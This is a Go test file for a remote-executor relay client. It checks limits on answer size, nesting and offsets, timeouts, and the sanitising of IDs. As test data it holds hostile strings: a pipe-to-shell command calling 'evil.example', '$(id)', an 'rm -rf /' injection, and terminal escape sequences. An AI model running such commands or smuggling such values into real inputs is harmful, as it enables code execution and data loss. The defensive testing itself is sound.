package client

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"reflect"
	"slices"
	"sort"
	"strings"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"

	"colabrelay/relay/plain"
	"colabrelay/shared/bounded"
	"colabrelay/shared/contract"
	"colabrelay/shared/memory"
	"colabrelay/shared/tier"
)

func items(n int) string { return strings.TrimSuffix(strings.Repeat("{},", n), ",") }

func TestAnswersThatAreNestedTooDeeplyAreRefused(t *testing.T) {
	for text, over := range map[string]bool{
		strings.Repeat("[", maxNesting):   false,
		strings.Repeat("[", maxNesting+1): true,
		`}}]],,`:                          false, // no JSON: the decoder says so
		`"\`:                              false,
	} {
		if err := (&itemScan{text: []byte(text)}).run(); errors.Is(err, bounded.ErrTooLong) != over {
			t.Errorf("%.60q: %v, want an error: %v", text, err, over)
		}
	}
}

// What the items of an answer take in memory is bounded, also if each list is short; and over
// freeDecoded they take the turn of a large answer.
func TestWhatAnAnswerBecomesIsBounded(t *testing.T) {
	tier.Long(t)
	frames := func(n int) []byte { // 64 bytes a list, and one more for each item
		event := `{"traceback":["",` + strings.Repeat(`"",`, 1000) + `""]},`
		return []byte(`{"events":[` + strings.Repeat(event, n) + `{}]}`)
	}
	atBound := sort.Search(10_000, func(n int) bool {
		return (&itemScan{text: frames(n), root: shapeOf(reflect.TypeFor[contract.Execution]())}).run() != nil
	})
	if atBound < 1000 || atBound == 10_000 {
		t.Fatalf("%d lists are too many", atBound)
	}
	if err := read(t.Context(), frames(atBound-1), new(contract.Execution)); err != nil {
		t.Errorf("at the bound: %v", err)
	}
	wantKind(t, read(t.Context(), frames(atBound), new(contract.Execution)), KindBadAnswer)

	synctest.Test(t, func(t *testing.T) {
		done, err := memory.Decoding.Take(t.Context())
		must(t, err)
		defer done()
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		few, many := freeDecoded/(1002*slack*16), freeDecoded/(1002*slack*16)+1
		if err := read(ctx, frames(few-2), new(contract.Execution)); err != nil {
			t.Errorf("an answer that takes no turn: %v", err)
		}
		if err := read(ctx, frames(many), new(contract.Execution)); !errors.Is(err, context.DeadlineExceeded) {
			t.Errorf("one that takes more: %v", err)
		}
	})
}

// Such times could not be written as JSON, in a record or an answer.
func TestImpossibleOffsetsAndTimesAreRefused(t *testing.T) {
	for text, refused := range map[string]bool{
		`{"events":[{"offset":9007199254740992,"events":9007199254740992}],"next_offset":9007199254740992}`: false,
		`{"events":[{"offset":0},{"offset":9007199254740993}]}`:                                             true,
		`{"events":[{"type":"gap","events":9223372036854775807}]}`:                                          true,
		`{"events":[{"type":"gap","bytes":-1}]}`:                                                            true,
		`{"finished_at":"9999-12-31T23:59:59-14:00"}`:                                                       true,
	} {
		if err := read(t.Context(), []byte(text), new(contract.Execution)); (kindOf(err) == KindBadAnswer) != refused {
			t.Errorf("%s: %v", text, err)
		}
	}
}

// While a caller waits for more of a run, it keeps the run's error.
func TestTheErrorOfARunIsBounded(t *testing.T) {
	for past := range 2 {
		many := strings.Split(strings.Repeat("f,", (maxError-2)/17+past), ",")
		for name, e := range map[string]*contract.ExecutionError{
			"one text":         {EName: "E", EValue: strings.Repeat("v", maxError-1+past)},
			"thousands of few": {EValue: "vv", Traceback: many[:len(many)-1]},
		} {
			text, err := json.Marshal(contract.Execution{Error: e})
			must(t, err)
			err = read(t.Context(), text, new(contract.Execution))
			if past == 0 && err != nil {
				t.Errorf("%s, at the bound: %v", name, err)
			}
			if past == 1 {
				wantKind(t, err, KindBadAnswer)
			}
		}
	}
}

// An executor that never says that an answer was the last one holds no call for ever.
func TestAFinishedExecutionIsReadInABoundedNumberOfAnswers(t *testing.T) {
	for name, page := range map[string]contract.Execution{
		"empty answers":    {Status: contract.StatusSucceeded},
		"unknown status":   {Status: "resting", NextOffset: 1},
		"no status":        {},
		"the same event":   {Status: contract.StatusFailed, Events: []contract.Event{{}}},
		"an old execution": {Status: contract.StatusLost, NextOffset: maxOffset},
	} {
		p := anyPages{left: []contract.Execution{page}}
		_, err := Follow(t.Context(), &p, contract.Execution{ExecutionID: "e"}, FollowOptions{
			Visit: func(contract.Execution) bool { return true }, Spacing: func() time.Duration { return 0 },
		})
		wantKind(t, err, KindBadAnswer)
		if p.reads != maxEndPages+1 {
			t.Errorf("%s: %d answers were read", name, p.reads)
		}
	}
}

// An answer that takes no turn for its length cannot become much more than its text: {} takes three
// bytes of it and hundreds of memory. Neither case nor escapes change that, and a payload, which
// stays text, is none of it.
func TestItemsThatCanNotBeRealAreRefusedInASmallAnswer(t *testing.T) {
	const n = 65_000
	for _, name := range []string{"events", "EVENTS", "eventſ", `\u0065vents`} {
		err := read(t.Context(), []byte(`{"`+name+`":[`+items(n)+`]}`), new(contract.Execution))
		wantKind(t, err, KindBadAnswer)
	}
	wantKind(t, read(t.Context(), []byte(`{"executions":[`+items(n)+`]}`), new(contract.ExecutionList)), KindBadAnswer)
	figure := `{"events":[{"data":{"a/b":{"events":[` + strings.Repeat("1,", n) + `1]}}}]}`
	if err := read(t.Context(), []byte(figure), new(contract.Execution)); err != nil {
		t.Errorf("a payload with a list of that name: %v", err)
	}
}

// The smallest answers that an executor gives to the largest requests are within the bounds.
func TestTheLongestHonestListsAreRead(t *testing.T) {
	event := contract.Event{Offset: 1, Type: contract.EventDisplayData, Data: map[string]json.RawMessage{"text/plain": []byte(`"1"`)}}
	for name, answer := range map[string]any{
		"executions": contract.ExecutionList{Executions: make([]contract.Execution, contract.MaxListExecutions)},
		"files":      contract.Files{Files: make([]contract.File, contract.MaxListFiles)},
		"comparison": contract.Comparison{Files: make([]contract.Compared, contract.MaxManifestFiles)},
		"batch":      contract.BatchAnswer{Files: make([]contract.BatchedFile, contract.MaxBatchFiles)},
		"contents":   contract.Contents{Files: make([]contract.Content, contract.MaxBatchFiles)},
		"upload":     contract.Upload{Missing: make([]contract.Range, contract.MaxUploadRanges)},
		"job":        contract.Job{Steps: make([]contract.JobEntry, contract.MaxJobEntries)},
		"events":     contract.Execution{Events: slices.Repeat([]contract.Event{event}, 40_000)},
	} {
		text, err := json.Marshal(answer)
		must(t, err)
		s := itemScan{text: text, root: shapeOf(reflect.TypeOf(answer))}
		if err := s.run(); err != nil {
			t.Errorf("%s, %d bytes that become %d: %v", name, len(text), s.bytes, err)
		}
	}
}

// No file has a name or path of more bytes than these, and no answer states a folder's path for each
// of its entries.
func TestNamesOnTheVMAreBounded(t *testing.T) {
	for _, c := range []struct {
		folder, name int
		refused      bool
	}{{maxRemotePath, maxRemoteName, false}, {maxRemotePath + 1, 1, true}, {1, maxRemoteName + 1, true}} {
		folder, name := strings.Repeat("f", c.folder), strings.Repeat("n", c.name)
		e := newExecutor(t, func(s seen) (int, any) {
			return 200, contract.Files{Path: folder, Files: []contract.File{{Name: name, Path: folder + "/elsewhere"}}}
		})
		got, err := e.client(t).Files(t.Context(), "f")
		switch {
		case c.refused:
			wantKind(t, err, KindBadAnswer)
		case err != nil || got.Files[0].Path != "" || got.At(name) != folder+"/"+name:
			t.Errorf("%d and %d bytes: %.80q, %v", c.folder, c.name, got.At(name), err)
		}
	}
}

// What is too long is not read, and nothing says that the code did not run.
func TestAnAnswerThatIsTooLongSaysWhereToReadOn(t *testing.T) {
	executor := newExecutor(t, func(s seen) (int, any) {
		if s.path == contract.PathKernel {
			return http.StatusOK, contract.Kernel{}
		}
		long := contract.Event{Type: contract.EventStream, Name: contract.Stdout, Text: strings.Repeat("x", 1<<20)}
		return http.StatusOK, contract.Execution{ExecutionID: "e1", RequestID: "r1", Status: contract.StatusSucceeded, Events: []contract.Event{long}}
	})
	c := executor.client(t)
	c.maxAnswer = 512 << 10
	_, err := c.Submit(t.Context(), contract.Submit{RequestID: "r1", Code: "1"})
	if e := wantKind(t, err, KindBadAnswer); !strings.Contains(e.Hint, "Do not run the code again") || !strings.Contains(e.Hint, "r1") || !MayRun(err) {
		t.Errorf("%s; %s", e.Message, e.Hint)
	}
	if n := len(executor.submits()); n != 1 {
		t.Errorf("it was submitted %d times", n)
	}
	_, err = c.Execution(t.Context(), "e1", 7, 0, contract.MaxReadBytes)
	if e := wantKind(t, err, KindBadAnswer); !strings.Contains(e.Hint, "from offset 8") {
		t.Errorf("%s; %s", e.Message, e.Hint)
	}
}

// Of an answer that no executor signed, only its beginning is read.
func TestUnsignedAnswerIsBounded(t *testing.T) {
	e, _ := newRunningExecutor(t)
	var sent atomic.Int64
	e.setBefore(func(w http.ResponseWriter, _ *http.Request) bool {
		chunk := make([]byte, 1<<20)
		for range 64 {
			n, err := w.Write(chunk)
			sent.Add(int64(n))
			if err != nil {
				return true
			}
		}
		return true
	})
	c := e.client(t)
	_, err := c.Health(t.Context())
	wantKind(t, err, KindNotExecutor)
	_, err = c.Kernel(t.Context())
	wantKind(t, err, KindNotExecutor)
	// Three requests were made: the second call asked for the executor's protocol. Of each
	// answer, the system buffers some.
	if n := sent.Load(); n > 3*16<<20 {
		t.Errorf("%d bytes were taken of 192 MiB", n)
	}
}

func TestStalledAnswerTimesOut(t *testing.T) {
	for name, headers := range map[string]bool{"before the headers": false, "in the body": true} {
		t.Run(name, func(t *testing.T) {
			e, _ := newRunningExecutor(t)
			released := make(chan struct{})
			defer close(released)
			e.setBefore(func(w http.ResponseWriter, r *http.Request) bool {
				if headers {
					_, _ = io.WriteString(w, `{"status":`)
					_ = http.NewResponseController(w).Flush()
				}
				select {
				case <-released:
				case <-r.Context().Done():
				}
				return true
			})
			c := e.client(t)
			c.timeouts = timeouts{answer: 80 * time.Millisecond, stall: 80 * time.Millisecond}
			_, err := c.Health(t.Context())
			wantKind(t, err, KindTimeout)
		})
	}
}

// A person pastes "colab-relay attach ID" into a shell, and a script uses the id that
// `run --detach` prints.
func TestAnIDThatAShellWouldReadAsMoreThanANameIsDropped(t *testing.T) {
	for id, want := range map[string]string{
		"3f2a-b.c_d": "3f2a-b.c_d", "--runtime=evil": "", "x; curl evil.example | sh": "", "$(id)": "", "..": "",
	} {
		e := newExecutor(t, func(s seen) (int, any) {
			one := contract.Execution{ExecutionID: id, Status: contract.StatusQueued, Behind: &contract.Behind{ExecutionID: id}}
			if s.method == http.MethodGet {
				return http.StatusOK, contract.ExecutionList{Executions: []contract.Execution{one}}
			}
			return http.StatusOK, one
		})
		c := e.client(t)
		got, err := c.Submit(t.Context(), contract.Submit{Code: "1"})
		if err != nil || got.ExecutionID != want || got.Behind.ExecutionID != want {
			t.Errorf("%q: %q, %+v, %v", id, got.ExecutionID, got.Behind, err)
		}
		list, err := c.List(t.Context(), 0)
		if err != nil || list.Executions[0].ExecutionID != want {
			t.Errorf("%q: %+v, %v", id, list, err)
		}
	}
}

// answers are the structs that answers of an executor are read into.
var answers = map[string]func() any{
	"health": func() any { return new(contract.Health) }, "probe": func() any { return new(contract.Probe) },
	"kernel": func() any { return new(contract.Kernel) }, "execution": func() any { return new(contract.Execution) },
	"executions": func() any { return new(contract.ExecutionList) }, "variables": func() any { return new(contract.Variables) },
	"inspection": func() any { return new(contract.Inspection) }, "cleanup": func() any { return new(contract.Cleanup) },
	"error": func() any { return new(contract.ErrorBody) },
}

// FuzzAnswers reads any text as any answer. What was read has only plain strings, except for
// the output of the user's code, which others clean.
func FuzzAnswers(f *testing.F) {
	f.Add("kernel", []byte("{\"status\":\"idle\",\"kernel_id\":\"k\x1b[2J\",\"python\":\"3.12\\u001b]0;t\\u0007\"}"))
	f.Add("execution", []byte(`{"execution_id":"-e","status":"failed","error":{"ename":"E\u009b","traceback":["a\nb\u202e"]},"events":[{"offset":9223372036854775807}]}`))
	f.Add("executions", []byte(`{"executions":[{},{"execution_id":"e;rm -rf /","behind":{"prompt":"p\u001b[1A"}}]}`))
	f.Add("probe", []byte(`{"packages":{"a\u0000":"1"},"gpu":{"devices":[{"name":"T4\r"}]},"storage":[{}]}`))
	f.Add("variables", []byte(`{"count":-1,"variables":[{"name":"x","shape":[9223372036854775807]}]}`))
	f.Add("error", []byte(`{"error":{"code":"c\u001b","message":"m\u2066","hint":"h","request_id":"r\n"}}`))
	f.Add("cleanup", []byte(strings.Repeat("[", 20_000)))
	f.Fuzz(func(t *testing.T, name string, body []byte) {
		fresh, known := answers[name]
		if !known {
			return
		}
		into := fresh()
		if read(t.Context(), body, into) != nil {
			return
		}
		unplain := func(s string) string {
			if plain.Text(s) != s {
				t.Errorf("%s: %q is not plain", name, s)
			}
			return s
		}
		plain.Deep(into, map[string]plain.Rule{"": unplain, "Events": nil, "Path": nil})
		if e, ok := into.(*contract.Execution); ok && e.ExecutionID != "" && !validID(e.ExecutionID) {
			t.Errorf("the id %q was kept", e.ExecutionID)
		}
	})
}

// anyPages are the answers of an executor to the reads of one execution; the last one repeats.
type anyPages struct {
	left  []contract.Execution
	reads int
}

// Execution implements ExecutionReader.
func (p *anyPages) Execution(context.Context, string, int64, time.Duration, int64) (contract.Execution, error) {
	p.reads++
	e := p.left[0]
	if len(p.left) > 1 {
		p.left = p.left[1:]
	}
	return e, nil
}

// InstanceID implements ExecutionReader.
func (*anyPages) InstanceID() string { return "i" }
